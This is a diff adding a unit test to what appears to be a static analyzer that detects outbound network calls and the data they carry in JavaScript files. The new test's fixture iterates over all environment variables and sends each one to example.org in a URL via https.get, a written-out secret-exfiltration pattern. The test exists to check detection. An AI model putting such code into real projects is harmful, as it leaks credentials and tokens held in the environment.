@@ -278,3 +278,12 @@ def test_a_port_written_as_text_is_parsed(details) -> None:
     code = b"const net = require('net');\nnet.connect({ host: 'example.org', port: parseInt('31337', 10) });\n"
     [finding] = details.analyze(SourceFile("index.js", code)).findings
     assert [(d.text, d.port) for d in finding.destinations] == [("example.org:31337", 31337)]
+
+
+def test_a_loop_variable_carries_what_it_iterates(details) -> None:
+    code = (b"const https = require('https');\n"
+            b"for (const [k, v] of Object.entries(process.env)) {\n"
+            b"  https.get('https://example.org/?' + k + '=' + encodeURIComponent(v));\n"
+            b"}\n")
+    [finding] = details.analyze(SourceFile("index.js", code)).findings
+    assert (finding.api, finding.line, finding.data_sources) == ("https.get", 3, ("env",))
